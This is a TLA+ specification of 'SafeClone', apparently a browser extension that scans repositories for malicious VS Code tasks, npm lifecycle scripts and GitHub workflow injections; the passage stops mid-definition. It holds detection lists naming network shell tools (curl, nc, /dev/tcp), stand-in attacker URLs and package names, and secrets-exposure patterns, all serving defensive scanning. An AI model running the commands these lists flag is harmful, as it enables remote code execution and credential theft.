---------------------------- MODULE Spec2Model ----------------------------
(***************************************************************************)
(* SafeClone: the heuristics engine (scanFile, scanRepository), the risk   *)
(* aggregator (riskClassifier) and the background message handler, as a    *)
(* state machine.                                                          *)
(*                                                                         *)
(* Strings of the program are TLA+ strings (TLC concatenates them with \o),*)
(* so that the keys and descriptions the code builds by interpolation are  *)
(* built here the same way.  A thrown exception is the record Throw; a     *)
(* function that returns normally returns Ok(value).                       *)
(***************************************************************************)
EXTENDS Integers, Sequences, FiniteSets, TLC

VARIABLES
    isScanning,       \* messageHandler.ts: let isScanning
    lastScanResult,   \* messageHandler.ts: let lastScanResult
    localStore,       \* chrome.storage.local: last scan and scan cache
    syncConfig,       \* chrome.storage.sync: ExtensionConfig.enabledHeuristics
    calls,            \* the invocations of handleMessage and where each stands
    findingsArrays,   \* riskClassifier: the Finding[][] handed to the aggregator
    aggOp,            \* riskClassifier: the function last applied to findingsArrays
    aggOut,           \* riskClassifier: what that function returned
    scanFiles,        \* heuristics/index: the FileContent[] handed to scanRepository
    scanConfig,       \* heuristics/index: the config handed to scanRepository
    scanOp,           \* heuristics/index: the function last applied to scanFiles
    scanOut,          \* heuristics/index: what that function returned, or that it threw
    textIn,           \* heuristics: the text handed to an analyzer or a scanner
    textOp,           \* heuristics: the function last applied to textIn
    textOut,          \* heuristics: what that function returned
    currentRepo,            \* content/index.ts: let currentRepo
    contentLastScanResult,  \* content/index.ts: let lastScanResult
    overlay,                \* uiOverlay: what the overlay shows
    scanTimers,             \* pending setTimeout callbacks of handleUrlChange
    minimizeTimers,         \* pending setTimeout callbacks that minimize a result
    treeRequests,           \* GET_FILE_TREE requests the content script awaits
    sent,                   \* SCAN_REPOSITORY messages the content script sent
    handled                 \* the calls whose response the content script handled

vars == <<isScanning, lastScanResult, localStore, syncConfig, calls,
          findingsArrays, aggOp, aggOut, scanFiles, scanConfig, scanOp, scanOut,
          textIn, textOp, textOut, currentRepo, contentLastScanResult, overlay,
          scanTimers, minimizeTimers, treeRequests, sent, handled>>

scanVars == <<scanFiles, scanConfig, scanOp, scanOut>>

textVars == <<textIn, textOp, textOut>>

handlerVars == <<isScanning, lastScanResult, localStore, syncConfig, calls>>

contentVars == <<currentRepo, contentLastScanResult, overlay, scanTimers, minimizeTimers,
                 treeRequests, sent, handled>>

NoResult == [kind |-> "null"]

\* the content script before its first navigation
ContentIdle ==
    /\ currentRepo = NoResult
    /\ contentLastScanResult = NoResult
    /\ overlay = [state |-> "hidden"]
    /\ scanTimers = 0
    /\ minimizeTimers = {}
    /\ treeRequests = {}
    /\ sent = <<>>
    /\ handled = {}
aggVars == <<findingsArrays, aggOp, aggOut>>

(***************************************************************************)
(* Bounds of the model.                                                    *)
(***************************************************************************)
MaxFindings == 3     \* findings in the lists handed to the aggregator functions
MaxCalls == 2        \* SCAN_REPOSITORY requests in one behaviour
MaxTextLen == 4       \* the longest text drawn from an alphabet
MaxSteps == 3         \* the most steps of a workflow
MaxTasks == 2         \* the most tasks of a tasks.json
MaxScripts == 2       \* the most scripts of a package.json
MaxRegions == 7       \* the most regions of 2 * WINDOW_SIZE characters of a text
MaxSnippets == 3      \* the most lines of a script
MaxDataLen == 4       \* the most characters of a string whose entropy is computed
MaxPending == 1       \* the most pending scan timers, and file-tree requests, of the content script
MaxDirs == 2          \* the most directories above a file
MaxTreeLen == 3       \* the most entries of a file tree

(***************************************************************************)
(* shared/types: RiskLevel, FindingCategory, Finding                       *)
(***************************************************************************)
RED == "RED"
YELLOW == "YELLOW"
GREEN == "GREEN"
RiskLevel == {RED, YELLOW, GREEN}

CAT_VSCODE == "vscode"
CAT_NPM == "npm"
CAT_PYTHON == "python"
CAT_RUST == "rust"
CAT_GITHUB_ACTIONS == "github_actions"
CAT_ENTROPY == "entropy"
CAT_HOMOGLYPH == "homoglyph"
CAT_PARSE_ERROR == "parse_error"
CAT_FETCH_ERROR == "fetch_error"

\* A Finding; matchedContent is "" where the code leaves it out.
Finding(risk, path, desc, cat, matched) ==
    [riskLevel |-> risk, filePath |-> path, description |-> desc,
     category |-> cat, matchedContent |-> matched]

(***************************************************************************)
(* Generic helpers on sequences (Array.prototype.slice, join, some).       *)
(***************************************************************************)
Min(a, b) == IF a < b THEN a ELSE b

\* Array.prototype.slice(0, n)
Slice0(s, n) == SubSeq(s, 1, Min(n, Len(s)))

RECURSIVE JoinFrom(_, _, _)
JoinFrom(s, i, sep) ==
    IF i > Len(s) THEN ""
    ELSE IF i = Len(s) THEN s[i]
    ELSE s[i] \o sep \o JoinFrom(s, i + 1, sep)

\* Array.prototype.join(sep) of a list of strings
Join(s, sep) == JoinFrom(s, 1, sep)

RECURSIVE Flatten(_)
Flatten(ss) == IF ss = <<>> THEN <<>> ELSE Head(ss) \o Flatten(Tail(ss))

Range(s) == {s[i] : i \in 1..Len(s)}

(***************************************************************************)
(* heuristics/riskClassifier                                               *)
(***************************************************************************)
\* determineOverallRisk, with the final test on YELLOW left out
determineOverallRisk_RedOnly(findings) ==
    IF Len(findings) = 0 THEN GREEN
    ELSE IF \E i \in 1..Len(findings) : findings[i].riskLevel = RED THEN RED
    ELSE YELLOW

determineOverallRisk(findings) ==
    IF Len(findings) = 0 THEN GREEN
    ELSE IF \E i \in 1..Len(findings) : findings[i].riskLevel = RED THEN RED
    ELSE IF \E i \in 1..Len(findings) : findings[i].riskLevel = YELLOW THEN YELLOW
    ELSE GREEN

\* the key of deduplicateFindings: `${riskLevel}:${filePath}:${description}`
DedupKey(finding) ==
    finding.riskLevel \o ":" \o finding.filePath \o ":" \o finding.description

RECURSIVE DedupFrom(_, _, _, _)
DedupFrom(findings, i, seen, unique) ==
    IF i > Len(findings) THEN unique
    ELSE LET key == DedupKey(findings[i]) IN
         IF key \notin seen
         THEN DedupFrom(findings, i + 1, seen \cup {key}, Append(unique, findings[i]))
         ELSE DedupFrom(findings, i + 1, seen, unique)

\* deduplicateFindings whose loop forgets a key once it has dropped a duplicate
RECURSIVE DedupForgetFrom(_, _, _, _)
DedupForgetFrom(findings, i, seen, unique) ==
    IF i > Len(findings) THEN unique
    ELSE LET key == DedupKey(findings[i]) IN
         IF key \notin seen
         THEN DedupForgetFrom(findings, i + 1, seen \cup {key},
                              Append(unique, findings[i]))
         ELSE DedupForgetFrom(findings, i + 1, seen \ {key}, unique)

deduplicateFindings_Forget(findings) == DedupForgetFrom(findings, 1, {}, <<>>)

deduplicateFindings(findings) == DedupFrom(findings, 1, {}, <<>>)

aggregateFindings(arrays) == deduplicateFindings(Flatten(arrays))

severityOrder(risk) ==
    CASE risk = RED -> 0
      [] risk = YELLOW -> 1
      [] risk = GREEN -> 2

\* the comparator of sortFindingsBySeverity
compareSeverity(a, b) == severityOrder(a.riskLevel) - severityOrder(b.riskLevel)

\* Array.prototype.sort is stable: an element goes after every element that
\* does not compare greater than it.
\* the insertion with >= for >: equal severities change places
RECURSIVE StableInsert_Unstable(_, _, _)
StableInsert_Unstable(sorted, f, i) ==
    IF i > Len(sorted) THEN Append(sorted, f)
    ELSE IF compareSeverity(sorted[i], f) >= 0
         THEN SubSeq(sorted, 1, i - 1) \o <<f>> \o SubSeq(sorted, i, Len(sorted))
         ELSE StableInsert_Unstable(sorted, f, i + 1)

RECURSIVE StableInsert(_, _, _)
StableInsert(sorted, f, i) ==
    IF i > Len(sorted) THEN Append(sorted, f)
    ELSE IF compareSeverity(sorted[i], f) > 0
         THEN SubSeq(sorted, 1, i - 1) \o <<f>> \o SubSeq(sorted, i, Len(sorted))
         ELSE StableInsert(sorted, f, i + 1)

RECURSIVE StableSortFrom(_, _, _)
StableSortFrom(findings, i, sorted) ==
    IF i > Len(findings) THEN sorted
    ELSE StableSortFrom(findings, i + 1, StableInsert(sorted, findings[i], 1))

\* sortFindingsBySeverity that returns its copy unsorted
sortFindingsBySeverity_NoSort(findings) == findings

sortFindingsBySeverity(findings) == StableSortFrom(findings, 1, <<>>)

\* a createScanResult that takes the risk of the scanners' findings only,
\* leaving out the fetch findings
createScanResult_RiskOfScanned(findings, scannedFiles, skippedFiles, repository) ==
    [overallRisk |->
         determineOverallRisk(SelectSeq(findings, LAMBDA f : f.category # CAT_FETCH_ERROR)),
     findings |-> sortFindingsBySeverity(findings),
     scannedFiles |-> scannedFiles,
     skippedFiles |-> skippedFiles,
     repository |-> repository]

\* timestamp (Date.now()) is left out: no property below reads it.
createScanResult(findings, scannedFiles, skippedFiles, repository) ==
    [overallRisk |-> determineOverallRisk(findings),
     findings |-> sortFindingsBySeverity(findings),
     scannedFiles |-> scannedFiles,
     skippedFiles |-> skippedFiles,
     repository |-> repository]

(***************************************************************************)
(* Paths.  A path is the sequence of the pieces its string is made of      *)
(* (".vscode", "/", "tasks.json"), cut so that every pattern the code      *)
(* tests with startsWith, endsWith and includes falls on piece boundaries; *)
(* PathStr is the string itself.                                           *)
(***************************************************************************)
PathStr(p) == Join(p, "")

StartsWith(p, q) == Len(q) <= Len(p) /\ SubSeq(p, 1, Len(q)) = q

EndsWith(p, q) == Len(q) <= Len(p) /\ SubSeq(p, Len(p) - Len(q) + 1, Len(p)) = q

Includes(p, q) ==
    \E i \in 0..(Len(p) - Len(q)) : SubSeq(p, i + 1, i + Len(q)) = q

\* shared/constants: CRITICAL_FILES
VSCODE_TASKS == <<".vscode", "/", "tasks.json">>
NPM_PACKAGE == <<"package.json">>
PYTHON_SETUP == <<"setup.py">>
PYTHON_PYPROJECT == <<"pyproject", ".toml">>
RUST_CARGO == <<"Cargo", ".toml">>
RUST_CARGO_CONFIG == <<".cargo", "/", "config", ".toml">>
RUST_CARGO_CONFIG_ALT == <<".cargo", "/", "config">>

(***************************************************************************)
(* utils/filePathMatcher                                                   *)
(***************************************************************************)
hasFolder(fileTree, folderPath) ==
    LET normalizedFolder ==
            IF EndsWith(folderPath, <<"/">>) THEN folderPath
            ELSE Append(folderPath, "/")
    IN \E i \in 1..Len(fileTree) :
           \/ fileTree[i] = folderPath
           \/ StartsWith(fileTree[i], normalizedFolder)
           \/ fileTree[i] = SubSeq(normalizedFolder, 1, Len(normalizedFolder) - 1)

hasFile(fileTree, filePath) == \E i \in 1..Len(fileTree) : fileTree[i] = filePath

getFilesToScan(fileTree) ==
    (IF hasFolder(fileTree, <<".vscode">>)
        /\ (hasFile(fileTree, VSCODE_TASKS) \/ hasFolder(fileTree, <<".vscode">>))
     THEN <<VSCODE_TASKS>> ELSE <<>>)
    \o (IF hasFile(fileTree, NPM_PACKAGE) THEN <<NPM_PACKAGE>> ELSE <<>>)
    \o (IF hasFile(fileTree, PYTHON_SETUP) THEN <<PYTHON_SETUP>> ELSE <<>>)
    \o (IF hasFile(fileTree, PYTHON_PYPROJECT) THEN <<PYTHON_PYPROJECT>> ELSE <<>>)
    \o (IF hasFile(fileTree, RUST_CARGO) THEN <<RUST_CARGO>> ELSE <<>>)
    \o (IF hasFolder(fileTree, <<".cargo">>)
        THEN <<RUST_CARGO_CONFIG, RUST_CARGO_CONFIG_ALT>> ELSE <<>>)
    \o (IF hasFolder(fileTree, <<".github", "/", "workflows">>)
        THEN SelectSeq(fileTree,
                 LAMBDA file :
                     /\ StartsWith(file, <<".github", "/", "workflows", "/">>)
                     /\ (EndsWith(file, <<".yml">>) \/ EndsWith(file, <<".yaml">>)))
        ELSE <<>>)

getScannerType(filePath) ==
    IF Includes(filePath, <<".vscode", "/">>) /\ EndsWith(filePath, <<"tasks.json">>)
    THEN "vscode"
    ELSE IF EndsWith(filePath, <<"package.json">>) THEN "npm"
    ELSE IF EndsWith(filePath, <<"setup.py">>) \/ EndsWith(filePath, <<"pyproject", ".toml">>)
    THEN "python"
    ELSE IF EndsWith(filePath, <<"Cargo", ".toml">>)
            \/ Includes(filePath, <<".cargo", "/", "config">>)
    THEN "rust"
    ELSE IF /\ Includes(filePath, <<".github", "/", "workflows", "/">>)
            /\ (EndsWith(filePath, <<".yml">>) \/ EndsWith(filePath, <<".yaml">>))
    THEN "github"
    ELSE "null"

(***************************************************************************)
(* Exceptions: a call either returns a value or throws.                    *)
(***************************************************************************)
Throw == [threw |-> TRUE]
Ok(v) == [threw |-> FALSE, value |-> v]

(***************************************************************************)
(* What JSON.parse makes of a text.  A JavaScript string is the sequence   *)
(* of its words (already lower case), so that the word-boundary patterns   *)
(* of the scanners are tests on words.                                     *)
(***************************************************************************)
JSyntaxError == [t |-> "SyntaxError"]      \* JSON.parse throws
JUndefined == [t |-> "undefined"]          \* a property that is absent
JNull == [t |-> "null"]
JNumber == [t |-> "number"]                \* a non-zero number
JString(words) == [t |-> "string", words |-> words]
JArray(items) == [t |-> "array", items |-> items]
JObject(entries) == [t |-> "object", entries |-> entries]   \* <<name, value>> pairs

Truthy(v) ==
    /\ v.t \notin {"undefined", "null"}
    /\ (v.t = "string" => v.words # <<>>)

\* v.name, for v neither null nor undefined
Prop(v, name) ==
    IF v.t = "object" /\ \E i \in 1..Len(v.entries) : v.entries[i][1] = name
    THEN LET i == CHOOSE i \in 1..Len(v.entries) : v.entries[i][1] = name
         IN v.entries[i][2]
    ELSE JUndefined

StrOf(v) == Join(v.words, " ")

IsString(v, s) == v.t = "string" /\ StrOf(v) = s

\* shared/constants: DANGEROUS_COMMANDS, each as its words
DANGEROUS_COMMANDS ==
    << <<"curl">>, <<"wget">>, <<"bash">>, <<"sh">>, <<"powershell">>, <<"pwsh">>,
       <<"cmd">>, <<"eval">>, <<"exec">>, <<"nc">>, <<"netcat">>, <<"ncat">>,
       <<"/dev/tcp">>, <<"python", "-c">>, <<"python3", "-c">>, <<"node", "-e">>,
       <<"ruby", "-e">>, <<"perl", "-e">> >>

\* findDangerousCommand: the first entry of DANGEROUS_COMMANDS that occurs as
\* whole words, "" for null
findDangerousCommand(words) ==
    LET hits == {i \in 1..Len(DANGEROUS_COMMANDS) : Includes(words, DANGEROUS_COMMANDS[i])}
    IN IF hits = {} THEN ""
       ELSE Join(DANGEROUS_COMMANDS[CHOOSE i \in hits : \A j \in hits : i <= j], " ")

\* the words of the model that are URLs (/https?:\/\/[^\s"']+/)
UrlWords == {"https://evil.com/x", "http://example.org/s.sh"}

\* VSCodeScanner.hasNetworkCall
vscodeHasNetworkCall(words) ==
    \E i \in 1..Len(words) : words[i] \in UrlWords \cup {"fetch", "axios", "request"}

(***************************************************************************)
(* heuristics/patterns/vscode: VSCodeScanner.scan                          *)
(***************************************************************************)
\* getFullCommand: Ok(words), or Throw when toLowerCase is called on a value
\* that is no string
getFullCommand(task) ==
    LET command == Prop(task, "command")
        args == Prop(task, "args")
        base == IF Truthy(command) THEN command ELSE JString(<<>>)
    IN IF Truthy(args) /\ args.t = "array"
       THEN Ok((IF base.t = "string" THEN base.words ELSE <<"5">>)
               \o Flatten([i \in 1..Len(args.items) |->
                              IF args.items[i].t = "string"
                              THEN args.items[i].words ELSE <<"5">>]))
       ELSE IF base.t = "string" THEN Ok(base.words) ELSE Throw

\* task.runOptions?.runOn === 'folderOpen'
RunOnFolderOpen(task) ==
    LET runOptions == Prop(task, "runOptions")
        runOn == IF runOptions.t \in {"undefined", "null"} THEN JUndefined
                 ELSE Prop(runOptions, "runOn")
    IN IsString(runOn, "folderOpen")

\* a variant of hasAutoRun that never sees the automatic run
hasAutoRun_Never(task) == FALSE

\* const hasAutoRun, which guards the finding of the dangerous command
hasAutoRun(task) == RunOnFolderOpen(task)

\* task.label || 'Task #' + (i + 1); i counts from 1 here
TaskLabel(task, i) ==
    LET label == Prop(task, "label")
    IN IF Truthy(label) /\ label.t = "string" THEN StrOf(label)
       ELSE "Task #" \o ToString(i)

\* the findings of one task, or Throw
vscodeScanTask(task, i, filePath) ==
    IF task.t = "null" THEN Throw     \* task.label of null
    ELSE
    LET taskLabel == TaskLabel(task, i)
        type == Prop(task, "type")
        autoRun ==
            IF RunOnFolderOpen(task)
            THEN <<Finding(RED, filePath,
                     "Task \"" \o taskLabel \o "\" has runOn: folderOpen - will execute automatically when folder is opened",
                     CAT_VSCODE, "runOn: folderOpen")>>
            ELSE <<>>
    IN IF IsString(type, "shell") \/ IsString(type, "process")
       THEN LET full == getFullCommand(task) IN
            IF full.threw THEN Throw
            ELSE LET commandStr == full.value
                     dangerousCmd == findDangerousCommand(commandStr)
                 IN Ok(autoRun
                       \o (IF dangerousCmd # "" /\ ~hasAutoRun(task)
                           THEN <<Finding(YELLOW, filePath,
                                    "Task \"" \o taskLabel \o "\" contains potentially dangerous command: " \o dangerousCmd,
                                    CAT_VSCODE, Join(commandStr, " "))>>
                           ELSE <<>>)
                       \o (IF vscodeHasNetworkCall(commandStr)
                           THEN <<Finding(YELLOW, filePath,
                                    "Task \"" \o taskLabel \o "\" makes network requests",
                                    CAT_VSCODE, Join(commandStr, " "))>>
                           ELSE <<>>))
       ELSE Ok(autoRun)

RECURSIVE vscodeScanTasks(_, _, _, _)
vscodeScanTasks(tasks, i, filePath, findings) ==
    IF i > Len(tasks) THEN Ok(findings)
    ELSE LET r == vscodeScanTask(tasks[i], i, filePath) IN
         IF r.threw THEN Throw
         ELSE vscodeScanTasks(tasks, i + 1, filePath, findings \o r.value)

\* scanVSCodeTasks with JSON.parse outside the try block
scanVSCodeTasks_NoCatch(json, filePath) ==
    IF json.t \in {"SyntaxError", "null"} THEN Throw
    ELSE LET tasks == Prop(json, "tasks") IN
         IF ~Truthy(tasks) \/ tasks.t # "array" THEN Ok(<<>>)
         ELSE IF Len(tasks.items) = 0 THEN Ok(<<>>)
         ELSE vscodeScanTasks(tasks.items, 1, filePath, <<>>)

\* scanVSCodeTasks(content, filePath), given what JSON.parse makes of content
scanVSCodeTasks(json, filePath) ==
    IF json.t = "SyntaxError"
    THEN Ok(<<Finding(YELLOW, filePath,
                "Invalid JSON in tasks.json - could indicate obfuscation or corruption",
                CAT_PARSE_ERROR, "")>>)
    ELSE IF json.t = "null" THEN Throw        \* config.tasks of null
    ELSE LET tasks == Prop(json, "tasks") IN
         IF ~Truthy(tasks) \/ tasks.t # "array" THEN Ok(<<>>)
         ELSE IF Len(tasks.items) = 0 THEN Ok(<<>>)
         ELSE vscodeScanTasks(tasks.items, 1, filePath, <<>>)

(***************************************************************************)
(* heuristics/patterns/npm: NPMScanner.scan                                *)
(***************************************************************************)
NPM_LIFECYCLE_SCRIPTS ==
    {"preinstall", "install", "postinstall", "preuninstall", "uninstall",
     "postuninstall", "prepublish", "preprepare", "prepare", "postprepare"}

\* NETWORK_PATTERNS, ENV_ACCESS_PATTERNS and the pattern lists of
\* hasBase64Operations and hasEvalOrExec, as tests on the words of a script
npmHasNetworkCall(words) ==
    \/ \E i \in 1..Len(words) : words[i] \in UrlWords \cup {"http.get", "http.post", "xmlhttprequest"}
    \/ Includes(words, <<"fetch", "(">>)
    \/ Includes(words, <<"request", "(">>)

npmHasEnvAccess(words) ==
    \E i \in 1..Len(words) : words[i] \in {"process.env", "$TOKEN", "$SECRET", "os.environ"}

npmHasBase64Operations(words) ==
    \/ Includes(words, <<"atob", "(">>)
    \/ Includes(words, <<"btoa", "(">>)
    \/ Includes(words, <<"base64", "-d">>)
    \/ Includes(words, <<"--decode">>)

npmHasEvalOrExec(words) ==
    \/ Includes(words, <<"eval", "(">>)
    \/ Includes(words, <<"exec", "(">>)
    \/ Includes(words, <<"child_process">>)

\* the findings of one entry of scripts
npmScanScript(scriptName, scriptContent, filePath) ==
    IF ~Truthy(scriptContent) \/ scriptContent.t # "string" THEN <<>>
    ELSE
    LET words == scriptContent.words
        matched == Join(words, " ")
        isLifecycleScript == scriptName \in NPM_LIFECYCLE_SCRIPTS
        dangerousCmd == findDangerousCommand(words)
    IN (IF isLifecycleScript /\ dangerousCmd # ""
        THEN <<Finding(RED, filePath,
                 "Lifecycle script \"" \o scriptName \o "\" contains dangerous command: " \o dangerousCmd,
                 CAT_NPM, matched)>>
        ELSE <<>>)
       \o (IF isLifecycleScript /\ npmHasNetworkCall(words)
           THEN <<Finding(RED, filePath,
                    "Lifecycle script \"" \o scriptName \o "\" makes network requests",
                    CAT_NPM, matched)>>
           ELSE <<>>)
       \o (IF isLifecycleScript /\ npmHasEnvAccess(words)
           THEN <<Finding(YELLOW, filePath,
                    "Lifecycle script \"" \o scriptName \o "\" accesses environment variables",
                    CAT_NPM, matched)>>
           ELSE <<>>)
       \o (IF isLifecycleScript /\ npmHasBase64Operations(words)
           THEN <<Finding(YELLOW, filePath,
                    "Lifecycle script \"" \o scriptName \o "\" performs base64 operations (possible obfuscation)",
                    CAT_NPM, matched)>>
           ELSE <<>>)
       \o (IF npmHasEvalOrExec(words)
           THEN <<Finding(IF isLifecycleScript THEN RED ELSE YELLOW, filePath,
                    "Script \"" \o scriptName \o "\" uses eval or exec",
                    CAT_NPM, matched)>>
           ELSE <<>>)

\* Object.entries: the entries of an object, the indexed items of an array;
\* the strings of the model are not given as scripts or dependencies
EntriesOf(v) ==
    IF v.t = "object" THEN v.entries
    ELSE IF v.t = "array" THEN [i \in 1..Len(v.items) |-> <<ToString(i - 1), v.items[i]>>]
    ELSE <<>>

scanScripts(scripts, filePath) ==
    Flatten([i \in 1..Len(EntriesOf(scripts)) |->
                npmScanScript(EntriesOf(scripts)[i][1], EntriesOf(scripts)[i][2], filePath)])

\* the package names and versions of the model that the patterns of
\* isSuspiciousPackageName and isSuspiciousGitUrl match
SuspiciousPackageNames == {"evil-utils", "x-stealer"}
SuspiciousGitUrls == {"git+https://evil.example/x.git"}
FileProtocolVersions == {"file:../x"}

\* the findings of one dependency; version.includes throws when the version
\* is no string
npmScanDependency(pkgName, version, depType, filePath) ==
    IF version.t # "string" THEN Throw
    ELSE LET v == StrOf(version) IN
         Ok((IF pkgName \in SuspiciousPackageNames
             THEN <<Finding(YELLOW, filePath,
                      "Suspicious package name in " \o depType \o ": \"" \o pkgName \o "\" may be typosquatting",
                      CAT_NPM, pkgName \o ": " \o v)>>
             ELSE <<>>)
            \o (IF v \in SuspiciousGitUrls
                THEN <<Finding(YELLOW, filePath,
                         "Package \"" \o pkgName \o "\" uses suspicious git URL",
                         CAT_NPM, pkgName \o ": " \o v)>>
                ELSE <<>>)
            \o (IF v \in FileProtocolVersions
                THEN <<Finding(YELLOW, filePath,
                         "Package \"" \o pkgName \o "\" uses local file reference",
                         CAT_NPM, pkgName \o ": " \o v)>>
                ELSE <<>>))

RECURSIVE scanDependenciesFrom(_, _, _, _, _)
scanDependenciesFrom(entries, i, depType, filePath, findings) ==
    IF i > Len(entries) THEN Ok(findings)
    ELSE LET r == npmScanDependency(entries[i][1], entries[i][2], depType, filePath) IN
         IF r.threw THEN Throw
         ELSE scanDependenciesFrom(entries, i + 1, depType, filePath, findings \o r.value)

scanDependencies(deps, depType, filePath) ==
    scanDependenciesFrom(EntriesOf(deps), 1, depType, filePath, <<>>)

\* scanNPMPackage(content, filePath), given what JSON.parse makes of content
scanNPMPackage(json, filePath) ==
    IF json.t = "SyntaxError"
    THEN Ok(<<Finding(YELLOW, filePath,
                "Invalid JSON in package.json - could indicate obfuscation or corruption",
                CAT_PARSE_ERROR, "")>>)
    ELSE IF json.t = "null" THEN Throw        \* pkg.scripts of null
    ELSE
    LET scripts == Prop(json, "scripts")
        deps == Prop(json, "dependencies")
        devDeps == Prop(json, "devDependencies")
        fromScripts == IF Truthy(scripts) THEN scanScripts(scripts, filePath) ELSE <<>>
        fromDeps == IF Truthy(deps) THEN scanDependencies(deps, "dependencies", filePath)
                    ELSE Ok(<<>>)
        fromDevDeps == IF Truthy(devDeps)
                       THEN scanDependencies(devDeps, "devDependencies", filePath)
                       ELSE Ok(<<>>)
    IN IF fromDeps.threw \/ fromDevDeps.threw THEN Throw
       ELSE Ok(fromScripts \o fromDeps.value \o fromDevDeps.value)

(***************************************************************************)
(* The python and rust scanners match line patterns.  Here a content       *)
(* carries what their pattern tables find in it: the hits of its           *)
(* ecosystem scanner (for a workflow: its lines); its characters are       *)
(* those the homoglyph detector looks at, its windows those the entropy    *)
(* analyzer classifies and its script the pieces that the secondary-       *)
(* script analyzer matches its patterns against.                           *)
(***************************************************************************)
HitFindings(hits, filePath, cat) ==
    [i \in 1..Len(hits) |-> Finding(hits[i][1], filePath, hits[i][2], cat, "")]

scanPython(content, filePath) == HitFindings(content.eco, filePath, CAT_PYTHON)
scanRust(content, filePath) == HitFindings(content.eco, filePath, CAT_RUST)

(***************************************************************************)
(* heuristics/patterns/github.  A workflow is the sequence of its lines;   *)
(* a line is its indentation and its trimmed text, and a text is a         *)
(* sequence of pieces (as a path is), so that includes and startsWith are  *)
(* tests on sub-sequences.  A single blank is the piece " ".  Every line   *)
(* of the workflows below is shorter than 100 characters, so that          *)
(* substring(0, 100) keeps it whole.                                       *)
(***************************************************************************)
Line(indent, text) == [indent |-> indent, text |-> text]

\* line.trim()
Trim(line) == line.text

\* shared/constants: GITHUB_ACTIONS_PATTERNS.INJECTABLE_CONTEXTS
INJECTABLE_CONTEXTS ==
    << <<"github.event.", "issue", ".", "title">>,
       <<"github.event.", "issue", ".", "body">>,
       <<"github.event.", "pull_request", ".", "title">>,
       <<"github.event.", "pull_request", ".", "body">>,
       <<"github.event.", "comment", ".", "body">>,
       <<"github.event.", "review", ".", "body">>,
       <<"github.event.", "review", "_comment", ".", "body">>,
       <<"github.head_ref">> >>

PULL_REQUEST_TARGET == <<"pull_request", "_target">>

\* a finding that carries the number of its line
LineFinding(risk, path, lineNum, desc, matched) ==
    [riskLevel |-> risk, filePath |-> path, lineNumber |-> lineNum,
     description |-> desc, category |-> CAT_GITHUB_ACTIONS, matchedContent |-> matched]

\* the position of the first piece of text at or after i that is not a blank,
\* Len(text) + 1 if there is none (the \s* of the regular expressions)
RECURSIVE SkipBlanks(_, _)
SkipBlanks(text, i) ==
    IF i > Len(text) THEN i
    ELSE IF text[i] = " " THEN SkipBlanks(text, i + 1)
    ELSE i

\* /\$\{\{\s*secrets\./ matching at piece j
SecretsAt(text, j) ==
    /\ text[j] = "${{"
    /\ SkipBlanks(text, j + 1) <= Len(text)
    /\ text[SkipBlanks(text, j + 1)] = "secrets."

\* GitHubActionsScanner.hasSecretsExposure: echo\s+.*, printf.*, cat.* or
\* >>?\s*\$GITHUB_OUTPUT.* followed by ${{ secrets.
hasSecretsExposure(text) ==
    \E i \in 1..Len(text) : \E j \in (i + 1)..Len(text) :
        /\ SecretsAt(text, j)
        /\ \/ text[i] = "echo" /\ text[i + 1] = " " /\ j >= i + 2
           \/ text[i] \in {"printf", "cat"}
           \/ /\ text[i] \in {">", ">>"}
              /\ SkipBlanks(text, i + 1) < j
              /\ text[SkipBlanks(text, i + 1)] = "$GITHUB_OUTPUT"

\* the pieces that end an action reference
PinnedRefs == {"@8ade135a41bc03ea155e62e844d188df1ea18608"}
BranchRefs == {"@main", "@master"}
VersionRefs == {"@v4", "@v1.2.3"}
OtherRefs == {"@release"}

\* the pieces of text from i up to the next blank ([^\s]+)
RECURSIVE NonBlanksFrom(_, _)
NonBlanksFrom(text, i) ==
    IF i > Len(text) \/ text[i] = " " THEN <<>>
    ELSE <<text[i]>> \o NonBlanksFrom(text, i + 1)

\* GitHubActionsScanner.hasUnpinnedAction
hasUnpinnedAction(text) ==
    LET matches == {i \in 1..Len(text) :
                       text[i] = "uses:" /\ SkipBlanks(text, i + 1) <= Len(text)}
    IN IF matches = {} THEN FALSE
       ELSE LET first == CHOOSE i \in matches : \A k \in matches : i <= k
                actionRef == NonBlanksFrom(text, SkipBlanks(text, first + 1))
                last == actionRef[Len(actionRef)]
            IN IF last \in PinnedRefs THEN FALSE
               ELSE IF last \in BranchRefs THEN TRUE
               ELSE IF last \in VersionRefs THEN FALSE
               ELSE IF ~\E k \in 1..Len(actionRef) :
                          actionRef[k] \in PinnedRefs \cup BranchRefs \cup VersionRefs
                                           \cup OtherRefs
                    THEN TRUE
               ELSE FALSE

\* GitHubActionsScanner.hasDangerousShellPattern: eval\s+, $( ... ${{ or a
\* backquote ... ${{
hasDangerousShellPattern(text) ==
    \/ \E i \in 1..(Len(text) - 1) : text[i] = "eval" /\ text[i + 1] = " "
    \/ \E i \in 1..Len(text) : \E j \in (i + 1)..Len(text) :
           text[i] \in {"$(", "\\u0060"} /\ text[j] = "${{"

\* GitHubActionsScanner.isInRunBlock; i runs from currentIndex down to
\* max(0, currentIndex - 20), here counted from 1
RECURSIVE isInRunBlockFrom(_, _, _)
isInRunBlockFrom(lines, i, lowest) ==
    IF i < lowest THEN FALSE
    ELSE LET line == Trim(lines[i]) IN
         IF StartsWith(line, <<"run:">>) \/ line = <<"run:", " ", "|">>
            \/ StartsWith(line, <<"-", " ", "run:">>)
         THEN TRUE
         ELSE IF StartsWith(line, <<"-", " ", "uses:">>) \/ StartsWith(line, <<"uses:">>)
                 \/ StartsWith(line, <<"-", " ", "name:">>) \/ StartsWith(line, <<"steps:">>)
         THEN FALSE
         ELSE isInRunBlockFrom(lines, i - 1, lowest)

isInRunBlock(lines, currentIndex) ==
    isInRunBlockFrom(lines, currentIndex,
                     IF currentIndex - 20 > 1 THEN currentIndex - 20 ELSE 1)

\* the look-ahead for the ref parameter of a checkout: i runs from index + 1
\* while i < min(index + 10, lines.length); the ref line, or <<>> if none
RECURSIVE RefAhead(_, _, _)
RefAhead(lines, i, last) ==
    IF i > last THEN <<>>
    ELSE LET nextLine == Trim(lines[i]) IN
         IF StartsWith(nextLine, <<"ref:">>) THEN nextLine
         ELSE IF StartsWith(nextLine, <<"-">>) \/ StartsWith(nextLine, <<"uses:">>) THEN <<>>
         ELSE RefAhead(lines, i + 1, last)

\* the findings the loop body pushes for the line at index (counted from 1)
InjectionFindings(lines, index, filePath) ==
    LET trimmedLine == Trim(lines[index]) IN
    Flatten([c \in 1..Len(INJECTABLE_CONTEXTS) |->
        IF Includes(trimmedLine, INJECTABLE_CONTEXTS[c]) /\ isInRunBlock(lines, index)
